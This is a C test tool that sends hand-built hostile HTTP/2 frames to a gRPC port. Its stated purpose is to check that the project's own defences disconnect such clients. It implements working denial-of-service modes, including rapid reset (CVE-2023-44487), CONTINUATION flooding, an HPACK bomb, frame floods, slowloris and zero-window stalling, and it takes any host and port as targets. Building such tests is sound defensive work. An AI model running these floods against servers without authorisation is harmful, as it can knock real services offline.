/* h2_attack: hostile HTTP/2 (h2c prior knowledge) clients, to check that the gRPC port's defences
 * (dataplane/h2.c) disconnect them. Frames are written by hand on a plain TCP socket.
 *
 * Usage: h2_attack HOST PORT MODE [SECONDS]
 * Modes:
 *   rapid-reset         HEADERS then RST_STREAM(CANCEL) on new streams in a tight loop
 *                       (CVE-2023-44487)
 *   continuation-flood  one HEADERS without END_HEADERS, then endless CONTINUATION frames of junk
 *                       literal headers (CVE-2024-27316 family)
 *   hpack-bomb          a ~4 KB header inserted in the dynamic table (incremental indexing), then
 *                       referenced by index thousands of times in one header block
 *   settings-flood      SETTINGS frames in a tight loop (the ACKs are read)
 *   ping-flood          PING frames in a tight loop, the ACKs never read
 *   empty-data-flood    one open stream, then empty DATA frames without END_STREAM
 *   slowloris           the preface, then a request's HEADERS one byte every 500 ms
 *   zero-window         SETTINGS_INITIAL_WINDOW_SIZE=0, the connection window never increased,
 *                       many valid gRPC requests, and nothing read
 * Every mode sends the client preface and a SETTINGS frame first.
 *
 * Prints one line on stdout:
 *   MODE: server closed the connection after N frames / X bytes in T ms (GOAWAY error_code=E)
 *   MODE: still connected after SECONDS s
 * Exit status: 0 the server closed the connection, 1 still connected at the end, 2 setup error. */
#include <errno.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define PREFACE "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

enum { F_DATA = 0, F_HEADERS = 1, F_RST = 3, F_SETTINGS = 4, F_PING = 6, F_GOAWAY = 7, F_CONT = 9 };
enum { FL_END_STREAM = 1, FL_ACK = 1, FL_END_HEADERS = 4 };

static const char *GRPC_PATH = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";

struct att {
    const char *mode;
    int fd;
    bool reading;     /* read what the server sends while attacking */
    bool closed;      /* the server closed (FIN, RST, EPIPE, ECONNRESET) */
    long goaway_code; /* -1: no GOAWAY read */
    uint64_t frames;  /* frames fully written */
    uint64_t bytes;   /* bytes written */
    uint64_t t0_ms, deadline_ms, closed_ms;
    uint8_t rbuf[1 << 17];
    size_t rlen;
    bool need_settings_ack;
    /* output batch */
    uint8_t *ob;
    size_t olen, ocap;
    uint64_t oframes;
};

static uint64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000u + (uint64_t)ts.tv_nsec / 1000000u;
}

static void mark_closed(struct att *a)
{
    if (!a->closed) {
        a->closed = true;
        a->closed_ms = now_ms();
    }
}

/* ---- output batch ---- */

static void ob_put(struct att *a, const void *p, size_t n)
{
    if (a->olen + n > a->ocap) {
        size_t cap = a->ocap ? a->ocap : 65536;
        while (cap < a->olen + n)
            cap *= 2;
        uint8_t *q = realloc(a->ob, cap);
        if (!q) {
            fprintf(stderr, "h2_attack: out of memory\n");
            exit(2);
        }
        a->ob = q;
        a->ocap = cap;
    }
    memcpy(a->ob + a->olen, p, n);
    a->olen += n;
}

static void frame(struct att *a, uint8_t type, uint8_t flags, uint32_t sid, const void *payload,
                  size_t len)
{
    uint8_t h[9] = {
        (uint8_t)(len >> 16),        (uint8_t)(len >> 8),  (uint8_t)len,        type,        flags,
        (uint8_t)(sid >> 24 & 0x7f), (uint8_t)(sid >> 16), (uint8_t)(sid >> 8), (uint8_t)sid
    };
    ob_put(a, h, 9);
    if (len)
        ob_put(a, payload, len);
    a->oframes++;
}

/* ---- reading ---- */

static void parse_frames(struct att *a)
{
    size_t off = 0;
    while (a->rlen - off >= 9) {
        const uint8_t *h = a->rbuf + off;
        size_t len = (size_t)h[0] << 16 | (size_t)h[1] << 8 | h[2];
        if (9 + len > sizeof a->rbuf) { /* larger than we keep: give up parsing */
            off = a->rlen;
            break;
        }
        if (a->rlen - off < 9 + len)
            break;
        const uint8_t *p = h + 9;
        if (getenv("H2_ATTACK_DEBUG"))
            fprintf(stderr, "h2_attack: recv type=%u flags=0x%x stream=%u len=%zu%s\n", h[3], h[4],
                    (unsigned)((uint32_t)(h[5] & 0x7f) << 24 | (uint32_t)h[6] << 16 |
                               (uint32_t)h[7] << 8 | h[8]),
                    len, h[3] == F_RST && len >= 4 ? " (RST_STREAM)" : "");
        if (getenv("H2_ATTACK_DEBUG") && h[3] == F_HEADERS) {
            fprintf(stderr, "RECVHDR ");
            for (size_t k = 0; k < len; k++)
                fprintf(stderr, "%02x", p[k]);
            fputc('\n', stderr);
        }
        if (h[3] == F_GOAWAY && len >= 8)
            a->goaway_code =
                (long)((uint32_t)p[4] << 24 | (uint32_t)p[5] << 16 | (uint32_t)p[6] << 8 | p[7]);
        if (h[3] == F_SETTINGS && !(h[4] & FL_ACK))
            a->need_settings_ack = true;
        off += 9 + len;
    }
    memmove(a->rbuf, a->rbuf + off, a->rlen - off);
    a->rlen -= off;
}

/* Reads whatever is there without blocking. */
static void drain(struct att *a)
{
    for (;;) {
        ssize_t r = recv(a->fd, a->rbuf + a->rlen, sizeof a->rbuf - a->rlen, MSG_DONTWAIT);
        if (r > 0) {
            a->rlen += (size_t)r;
            parse_frames(a);
            continue;
        }
        if (r == 0) {
            mark_closed(a);
            return;
        }
        if (errno == EINTR)
            continue;
        if (errno != EAGAIN && errno != EWOULDBLOCK)
            mark_closed(a);
        return;
    }
}

/* Waits up to `ms` for something from the server: data (read only when a->reading), or a close
 * (FIN: POLLRDHUP, RST: POLLHUP/POLLERR). On a close, reads what is left to find a GOAWAY. */
static void poll_conn(struct att *a, int ms)
{
    struct pollfd pfd = { .fd = a->fd, .events = POLLRDHUP | (a->reading ? POLLIN : 0) };
    int r = poll(&pfd, 1, ms);
    if (r <= 0)
        return;
    if (pfd.revents & (POLLRDHUP | POLLHUP | POLLERR)) {
        mark_closed(a);
        drain(a);
        return;
    }
    if (a->reading && (pfd.revents & POLLIN))
        drain(a);
}

static bool expired(const struct att *a)
{
    return now_ms() >= a->deadline_ms;
}

/* Writes `n` bytes; returns false when the connection closed or the time is up. */
static bool send_all(struct att *a, const uint8_t *p, size_t n)
{
    while (n) {
        if (a->closed || expired(a))
            return false;
        ssize_t r = send(a->fd, p, n, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (r > 0) {
            p += r;
            n -= (size_t)r;
            a->bytes += (uint64_t)r;
            continue;
        }
        if (r < 0 && errno == EINTR)
            continue;
        if (r < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
            poll_conn(a, 0);
            if (a->closed)
                return false;
            struct pollfd pfd = { .fd = a->fd, .events = POLLOUT | POLLRDHUP };
            if (poll(&pfd, 1, 20) > 0 && (pfd.revents & (POLLRDHUP | POLLHUP | POLLERR)))
                poll_conn(a, 0);
            continue;
        }
        mark_closed(a); /* EPIPE, ECONNRESET */
        drain(a);
        return false;
    }
    return true;
}

/* Sends the batch, then the SETTINGS ACK owed (reading modes): after, since the first batch
 * holds the preface. */
static bool flush(struct att *a)
{
    bool ok = send_all(a, a->ob, a->olen);
    if (ok)
        a->frames += a->oframes;
    a->olen = 0;
    a->oframes = 0;
    if (ok && a->reading) {
        poll_conn(a, 0);
        if (a->need_settings_ack && !a->closed) {
            a->need_settings_ack = false;
            static const uint8_t ack[9] = { 0, 0, 0, F_SETTINGS, FL_ACK, 0, 0, 0, 0 };
            ok = send_all(a, ack, 9);
            if (ok)
                a->frames++;
        }
    }
    return ok && !a->closed;
}

/* ---- HPACK (RFC 7541) ---- */

static void hp_int(struct att *a, uint8_t first, int prefix, size_t v)
{
    size_t max = ((size_t)1 << prefix) - 1;
    uint8_t b[16];
    size_t n = 0;
    if (v < max) {
        b[n++] = (uint8_t)(first | v);
    } else {
        b[n++] = (uint8_t)(first | max);
        v -= max;
        while (v >= 128) {
            b[n++] = (uint8_t)(v % 128 + 128);
            v /= 128;
        }
        b[n++] = (uint8_t)v;
    }
    ob_put(a, b, n);
}

static void hp_str(struct att *a, const char *s, size_t n)
{
    hp_int(a, 0x00, 7, n); /* H = 0: no Huffman */
    ob_put(a, s, n);
}

/* Literal without indexing, indexed name (4-bit prefix). */
static void hp_lit_idx_name(struct att *a, size_t name_idx, const char *v)
{
    hp_int(a, 0x00, 4, name_idx);
    hp_str(a, v, strlen(v));
}

/* Literal without indexing, new name. */
static void hp_lit(struct att *a, const char *name, const char *v, size_t vlen)
{
    ob_put(a, "\x00", 1);
    hp_str(a, name, strlen(name));
    hp_str(a, v, vlen);
}

/* A gRPC request's header block, appended to the batch (the caller frames it). */
static void request_headers(struct att *a)
{
    ob_put(a, "\x83", 1);                       /* :method POST (static 3) */
    ob_put(a, "\x86", 1);                       /* :scheme http (static 6) */
    hp_lit_idx_name(a, 4, GRPC_PATH);           /* :path (static name 4) */
    hp_lit_idx_name(a, 1, "127.0.0.1");         /* :authority (static name 1) */
    hp_lit_idx_name(a, 31, "application/grpc"); /* content-type (static name 31) */
    hp_lit(a, "te", "trailers", 8);
}

/* Builds a header block in a scratch batch and returns it (malloc'd) with its length. */
static uint8_t *take_block(struct att *a, size_t mark, size_t *len)
{
    *len = a->olen - mark;
    uint8_t *b = malloc(*len ? *len : 1);
    if (!b)
        exit(2);
    memcpy(b, a->ob + mark, *len);
    a->olen = mark;
    return b;
}

static uint8_t *request_block(struct att *a, size_t *len)
{
    size_t mark = a->olen;
    request_headers(a);
    return take_block(a, mark, len);
}

/* ---- modes ---- */

static void m_rapid_reset(struct att *a)
{
    size_t hl;
    uint8_t *hb = request_block(a, &hl);
    static const uint8_t cancel[4] = { 0, 0, 0, 8 };
    uint32_t sid = 1;
    while (!a->closed && !expired(a) && sid < 0x7ffffff0u) {
        for (int i = 0; i < 50; i++, sid += 2) {
            frame(a, F_HEADERS, FL_END_HEADERS, sid, hb, hl);
            frame(a, F_RST, 0, sid, cancel, 4);
        }
        if (!flush(a))
            break;
    }
    free(hb);
}

static void m_continuation_flood(struct att *a)
{
    size_t hl;
    uint8_t *hb = request_block(a, &hl);
    frame(a, F_HEADERS, 0, 1, hb, hl); /* no END_HEADERS */
    free(hb);
    char val[100];
    memset(val, 'j', sizeof val);
    unsigned n = 0;
    while (!a->closed && !expired(a)) {
        for (int f = 0; f < 10; f++) {
            size_t mark = a->olen;
            for (int i = 0; i < 10; i++, n++) {
                char name[32];
                snprintf(name, sizeof name, "x-junk-%u", n);
                hp_lit(a, name, val, sizeof val);
            }
            size_t bl;
            uint8_t *b = take_block(a, mark, &bl);
            frame(a, F_CONT, 0, 1, b, bl);
            free(b);
        }
        if (!flush(a))
            break;
        poll_conn(a, 1);
    }
}

static void m_hpack_bomb(struct att *a)
{
    static char big[4000];
    memset(big, 'b', sizeof big);
    uint32_t sid = 1;
    while (!a->closed && !expired(a)) {
        size_t mark = a->olen;
        request_headers(a);
        /* Literal with incremental indexing, new name: entry size 6 + 4000 + 32 = 4038 fits the
         * default 4096-byte table; it becomes dynamic index 62. */
        ob_put(a, "\x40", 1);
        hp_str(a, "x-bomb", 6);
        hp_str(a, big, sizeof big);
        for (int i = 0; i < 8000; i++)
            hp_int(a, 0x80, 7, 62); /* indexed header field: 62 = the newest dynamic entry */
        size_t bl;
        uint8_t *b = take_block(a, mark, &bl); /* ~12 KB: under the 16 KB max frame size */
        if (getenv("H2_ATTACK_DEBUG")) {
            fprintf(stderr, "SENTHDR ");
            for (size_t k = 0; k < bl; k++)
                fprintf(stderr, "%02x", b[k]);
            fputc('\n', stderr);
        }
        frame(a, F_HEADERS, FL_END_HEADERS | FL_END_STREAM, sid, b, bl);
        free(b);
        sid += 2;
        if (!flush(a))
            break;
        poll_conn(a, 10);
    }
}

static void m_settings_flood(struct att *a)
{
    static const uint8_t enable_push_0[6] = { 0, 2, 0, 0, 0, 0 };
    while (!a->closed && !expired(a)) {
        for (int i = 0; i < 100; i++)
            frame(a, F_SETTINGS, 0, 0, enable_push_0, 6);
        if (!flush(a))
            break;
    }
}

static void m_ping_flood(struct att *a)
{
    uint64_t n = 0;
    while (!a->closed && !expired(a)) {
        for (int i = 0; i < 100; i++, n++) {
            uint8_t opaque[8];
            for (int k = 0; k < 8; k++)
                opaque[k] = (uint8_t)(n >> (8 * k));
            frame(a, F_PING, 0, 0, opaque, 8);
        }
        if (!flush(a))
            break;
        poll_conn(a, 0);
    }
}

static void m_empty_data_flood(struct att *a)
{
    size_t hl;
    uint8_t *hb = request_block(a, &hl);
    frame(a, F_HEADERS, FL_END_HEADERS, 1, hb, hl);
    free(hb);
    while (!a->closed && !expired(a)) {
        for (int i = 0; i < 100; i++)
            frame(a, F_DATA, 0, 1, NULL, 0);
        if (!flush(a))
            break;
    }
}

static void m_slowloris(struct att *a)
{
    if (!flush(a)) /* preface + SETTINGS */
        return;
    size_t hl;
    uint8_t *hb = request_block(a, &hl);
    frame(a, F_HEADERS, FL_END_HEADERS, 1, hb, hl);
    free(hb);
    size_t fl = a->olen;
    uint8_t *fb = take_block(a, 0, &fl);
    a->oframes = 0;
    for (size_t i = 0; !a->closed && !expired(a); i = (i + 1) % fl) {
        if (!send_all(a, fb + i, 1))
            break;
        uint64_t until = now_ms() + 500;
        while (!a->closed && !expired(a) && now_ms() < until)
            poll_conn(a, (int)(until - now_ms()));
    }
    free(fb);
}

static void m_zero_window(struct att *a)
{
    size_t hl;
    uint8_t *hb = request_block(a, &hl);
    /* An empty ExportTraceServiceRequest: gRPC frame, uncompressed, length 0. */
    static const uint8_t msg[5] = { 0, 0, 0, 0, 0 };
    for (uint32_t i = 0, sid = 1; i < 100; i++, sid += 2) {
        frame(a, F_HEADERS, FL_END_HEADERS, sid, hb, hl);
        frame(a, F_DATA, FL_END_STREAM, sid, msg, sizeof msg);
    }
    free(hb);
    if (!flush(a))
        return;
    while (!a->closed && !expired(a))
        poll_conn(a, 50);
}

static const struct {
    const char *name;
    void (*fn)(struct att *);
    bool reading;
} MODES[] = {
    { "rapid-reset", m_rapid_reset, true }, { "continuation-flood", m_continuation_flood, true },
    { "hpack-bomb", m_hpack_bomb, true },   { "settings-flood", m_settings_flood, true },
    { "ping-flood", m_ping_flood, false },  { "empty-data-flood", m_empty_data_flood, true },
    { "slowloris", m_slowloris, true },     { "zero-window", m_zero_window, false },
};

static int usage(void)
{
    fprintf(stderr, "usage: h2_attack HOST PORT MODE [SECONDS]\nmodes:");
    for (size_t i = 0; i < sizeof MODES / sizeof MODES[0]; i++)
        fprintf(stderr, " %s", MODES[i].name);
    fprintf(stderr, "\n");
    return 2;
}

int main(int argc, char **argv)
{
    if (argc < 4 || argc > 5)
        return usage();
    size_t m = 0, nm = sizeof MODES / sizeof MODES[0];
    while (m < nm && strcmp(MODES[m].name, argv[3]) != 0)
        m++;
    if (m == nm)
        return usage();
    double secs = argc == 5 ? strtod(argv[4], NULL) : 10.0;
    if (!(secs > 0))
        return usage();

    struct addrinfo hints = { .ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM }, *ai = NULL;
    int gr = getaddrinfo(argv[1], argv[2], &hints, &ai);
    if (gr) {
        fprintf(stderr, "h2_attack: %s:%s: %s\n", argv[1], argv[2], gai_strerror(gr));
        return 2;
    }
    int fd = -1;
    for (struct addrinfo *p = ai; p; p = p->ai_next) {
        fd = socket(p->ai_family, p->ai_socktype, p->ai_protocol);
        if (fd < 0)
            continue;
        if (connect(fd, p->ai_addr, p->ai_addrlen) == 0)
            break;
        close(fd);
        fd = -1;
    }
    freeaddrinfo(ai);
    if (fd < 0) {
        fprintf(stderr, "h2_attack: cannot connect to %s:%s: %s\n", argv[1], argv[2],
                strerror(errno));
        return 2;
    }
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);

    static struct att a;
    a.mode = MODES[m].name;
    a.fd = fd;
    a.reading = MODES[m].reading;
    a.goaway_code = -1;
    a.t0_ms = now_ms();
    a.deadline_ms = a.t0_ms + (uint64_t)(secs * 1000.0);

    /* Preface and SETTINGS; the modes that never read ACK the server's SETTINGS blindly. */
    ob_put(&a, PREFACE, strlen(PREFACE));
    if (strcmp(a.mode, "zero-window") == 0) {
        static const uint8_t iws0[6] = { 0, 4, 0, 0, 0, 0 }; /* SETTINGS_INITIAL_WINDOW_SIZE = 0 */
        frame(&a, F_SETTINGS, 0, 0, iws0, 6);
    } else {
        frame(&a, F_SETTINGS, 0, 0, NULL, 0);
    }
    if (!a.reading)
        frame(&a, F_SETTINGS, FL_ACK, 0, NULL, 0);
    if (strcmp(a.mode, "slowloris") == 0) {
        MODES[m].fn(&a); /* flushes the preface itself */
    } else if (flush(&a)) {
        MODES[m].fn(&a);
    }
    if (!a.closed)
        poll_conn(&a, 0);

    if (a.closed) {
        char gw[64];
        if (a.goaway_code >= 0)
            snprintf(gw, sizeof gw, "GOAWAY error_code=%ld", a.goaway_code);
        else
            snprintf(gw, sizeof gw, "no GOAWAY read");
        printf("%s: server closed the connection after %llu frames / %llu bytes in %llu ms (%s)\n",
               a.mode, (unsigned long long)a.frames, (unsigned long long)a.bytes,
               (unsigned long long)(a.closed_ms - a.t0_ms), gw);
        close(fd);
        free(a.ob);
        return 0;
    }
    printf("%s: still connected after %g s\n", a.mode, secs);
    close(fd);
    free(a.ob);
    return 1;
}
